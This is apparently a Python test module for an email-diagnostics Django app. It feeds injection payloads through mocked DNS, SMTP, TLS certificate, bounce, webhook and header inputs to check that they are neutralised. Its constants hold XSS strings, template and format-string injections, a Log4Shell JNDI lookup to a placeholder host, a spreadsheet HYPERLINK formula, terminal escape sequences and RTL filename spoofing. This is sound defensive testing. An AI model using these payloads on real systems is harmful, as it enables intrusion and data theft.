"""A case whose every foreign text is an attack, by the real ways in which such texts come.

A domain's name server and mail server, a bounce, a sending service's report, pasted headers, and what a customer and an
agent type. Each text carries `MARK`, so that a look at any page can tell where one has come through.
"""

from __future__ import annotations

import asyncio
import json
import ssl
import unicodedata
from collections.abc import Coroutine
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Any, TypeVar

import trustme
from django.http import HttpResponse
from django.test import Client

from diagnostics import registry
from diagnostics.articles import article
from diagnostics.domain import Address, Evidence, Transmission
from diagnostics.models import Case, Purpose, TestMessage
from diagnostics.net.senders.direct import Direct
from diagnostics.runner import observe
from diagnostics.services import bounces, runs
from diagnostics.services.audit import Actor
from diagnostics.services.cases import Report, mint_link, open_case
from diagnostics.services.events import Told, take_in
from diagnostics.services.messages import claim_message, finish_message, request_message
from diagnostics.services.notes import write_note
from diagnostics.vendors import vendor
from portal.access import remember
from portal.hooks.reading import told
from tests.attacks.inside import production
from tests.diagnostics.net.conftest import NameServer, listener, name_server, reply
from tests.diagnostics.net.smtp_server import MailServer
from tests.diagnostics.networks import target
from tests.diagnostics.taking import claim_group

T = TypeVar("T")
MARK = "QqMarkQq"
MARKUP = f"""<script>alert('{MARK}')</script><img src=x onerror=alert(1)>"'><svg/onload=alert(2)>"""
TRICKS = '{{7*7}}{% debug %} %s%n ${jndi:ldap://192.0.2.1/x} =HYPERLINK("http://192.0.2.1") [x](javascript:alert(3))'
SIGNS = "\x1b]0;owned\x07\x1b[2J\x9b31m\x08\x7f\u202egnp.exe\u2066\u200b\ufeff\u2028\u2029\x85\x00"
HOSTILE = f"{MARKUP} {TRICKS} {SIGNS}"
DOMAIN = "hostile.example.org"
ADDRESS = f"anna@{DOMAIN}"


def without_nul(text: str) -> str:
    return text.replace("\x00", "")


@dataclass
class HostileCase:
    """`evidence` is what the probes saw; `content` the test message as it left us."""

    case: Case
    evidence: Evidence
    message: TestMessage
    content: bytes
    owner: Client = field(default_factory=Client)


def hostile_case() -> HostileCase:
    """Probed, sent to, bounced, reported about, pasted into, and noted upon."""
    found = article("verification")
    assert found is not None
    company = without_nul(MARKUP + TRICKS)[:64]
    report = Report(found, company_id=company, address=Address("anna", DOMAIN), source="192.0.2.66")
    case = open_case(report)
    evidence, transmission, content, message = _walk(case)
    _send_back(message, content)
    owner, response = Client(), HttpResponse()
    remember(response, case, mint_link(case))
    owner.cookies.update(response.cookies)
    write_note(case, HOSTILE, Actor("agent", "agent-one"))
    return HostileCase(case, evidence, message, content, owner)


def _walk(case: Case) -> tuple[Evidence, Transmission, bytes, TestMessage]:
    message = request_message(case, purpose=Purpose.PRIMARY, address=Address("anna", DOMAIN), source="192.0.2.66")
    envelope = claim_message(message.pk)
    assert envelope
    evidence, transmission = _in_a_thread(_talk(case, envelope.content, envelope.sender))
    run = case.runs.get()
    for group in run.groups.all():
        claim = claim_group(group.pk)
        assert claim
        mine = {probe.observes for probe in registry.probes() if probe.group == group.name}
        assert runs.record(claim, [seen for seen in evidence if seen.kind in mine])
        runs.finish_group(claim)
    finish_message(message.pk, transmission)
    message.refresh_from_db()
    return evidence, transmission, envelope.content, message


def _in_a_thread(work: Coroutine[Any, Any, T]) -> T:
    """Playwright keeps an event loop in the main thread, in which no other could run."""
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, work).result()


async def _talk(case: Case, content: bytes, sender: str) -> tuple[Evidence, Transmission]:
    """What the attacker's own servers say to our probes and to the test message."""
    line = HOSTILE.replace("\n", " ")
    mail = MailServer(
        {
            "banner": f"220 {line}",
            "EHLO": f"250-{line}\r\n250-SIZE 1\r\n250-STARTTLS\r\n250 {line}",
            "RCPT": f"550-5.7.1 blocked {line}\r\n550 5.7.1 {line}",
            "QUIT": f"221 {line}",
        },
        tls=_certificate(),
    )
    names = NameServer()
    async with listener(mail) as server, name_server(names):
        names.records = {
            (DOMAIN, "A"): ["203.0.113.66"],
            (DOMAIN, "MX"): [f"10 {_label(MARKUP)}.{DOMAIN}.", f"20 mx.{DOMAIN}.", f"30 {_label(SIGNS)}.{DOMAIN}."],
            (DOMAIN, "TXT"): [
                _text(f"v=spf1 include:{MARKUP}"),
                _text(HOSTILE),
                _text(f"google-site-verification={HOSTILE}"),
            ],
            (f"_dmarc.{DOMAIN}", "TXT"): [_text(f"v=DMARC1; p=reject; rua=mailto:{HOSTILE}")],
            (f"_mta-sts.{DOMAIN}", "TXT"): [_text(f"v=STSv1; id={HOSTILE}")],
            (f"_portal-check.{DOMAIN}", "TXT"): [_text(HOSTILE)],
            (f"autodiscover.{DOMAIN}", "CNAME"): [f"{_label(HOSTILE)}.example.net."],
            (f"_autodiscover._tcp.{DOMAIN}", "SRV"): [f"0 0 443 {_label(HOSTILE)}.example.net."],
        }
        # Its MX names are escaped in DNS as they stand there: whatever they are, they lead to the same server.
        names.default = lambda server, query: [
            reply(query, ["203.0.113.66"] if server.asked[-1][1] == "A" else []).to_wire()
        ]
        net = production(nameservers=(names.endpoint,), dial_map={"203.0.113.66:25": server.endpoint})
        evidence = await observe(registry.probes(), target(ADDRESS, vendor(case.vendor)), net)
        transmission = await Direct(net).send(content, sender, Address("anna", DOMAIN))
    return evidence, transmission


def _certificate() -> ssl.SSLContext:
    """Of an authority whose name is an attack."""
    authority = trustme.CA(organization_name=MARKUP[:60], organization_unit_name=f"{MARK}\u202egnp")
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    authority.issue_cert(f"mx.{DOMAIN}").configure_cert(context)
    return context


def _text(text: str) -> str:
    """A TXT record in presentation form, of any octets (RFC 1035 section 5.1)."""
    octets = text.encode()[:250]
    return '"' + "".join(f"\\{one:03}" for one in octets) + '"'


def _label(text: str) -> str:
    """A label of any octets."""
    return "".join(f"\\{one:03}" for one in text.encode()[:63])


def _send_back(message: TestMessage, content: bytes) -> None:
    """A bounce, and the reports of a sending service, about the message."""
    bounce = f"""\
From: {MARK} <MAILER-DAEMON@{DOMAIN}>
To: bounces@example.net
Subject: Undelivered {without_nul(HOSTILE)}
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="b"

--b
Content-Type: text/plain; charset=utf-8

{HOSTILE}
--b
Content-Type: message/delivery-status

Reporting-MTA: dns; {HOSTILE}

Final-Recipient: rfc822; {ADDRESS}
Action: failed
Status: 5.1.1
Remote-MTA: dns; {HOSTILE}
Diagnostic-Code: smtp; 550 5.1.1 {HOSTILE}

--b
Content-Type: message/rfc822

"""
    assert bounces.take_in(bounce.encode() + content + b"\r\n--b--\r\n").messages == 1
    event = json.loads(json.dumps({"kind": "bounced", "text": HOSTILE}))
    take_in([_reported(message, event["text"], kind) for kind in ("deferred", "bounced", "complained")])


def _reported(message: TestMessage, text: str, kind: str) -> Told:
    """What django-anymail would hand on of a service that repeats whatever it was told."""

    class Event:
        event_type, recipient, timestamp = kind, message.address, None
        message_id, event_id = message.message_id, f"{kind}-1"
        mta_response = description = reject_reason = user_agent = text
        esp_event: dict[str, object] = {}  # noqa: RUF012 - as anymail has it

    found = told(Event, "postmark")
    assert found is not None
    return found


BARE = "".join(one for one in HOSTILE if one not in "\x00\x85\u2028\u2029")
"""On one line, for that is what a header is."""
HEADERS = f"""\
Received: from {BARE} (mx.{DOMAIN} [203.0.113.66])
\tby {MARK}.example.net with ESMTP id 1; Mon, 2 Mar 2026 10:42:00 +0000
Received: from mx.{DOMAIN} by {MARKUP} with {BARE}; Mon, 2 Mar 2026 10:41:00 +0000
Authentication-Results: {MARKUP}; spf=fail smtp.mailfrom={BARE};
\tdkim=fail header.d={BARE}
X-Spam-Status: Yes, score=9.9 tests={BARE}
X-Forefront-Antispam-Report: CIP:{BARE};SCL:9;SFV:SPM;CAT:{MARKUP}
X-Proofpoint-Spam-Details: rule={BARE}
From: "{BARE}" <codes@{MARK.lower()}.example.net>
Message-ID: <{MARK}\x1b[2J\u202e@example.net>
Subject: {BARE}
"""
SOFT = {"\u00ad", "\u200d"}
"""The soft hyphen and the joiner, which texts of ours may have."""
OBEYED = {"Cc", "Cf", "Zl", "Zp", "Cs"}


def unsafe_signs(text: str) -> set[str]:
    """Characters that a terminal obeys or that turn the reading order; a page or a line of a log has none."""
    return {one for one in text if unicodedata.category(one) in OBEYED} - SOFT - set("\n\r\t")
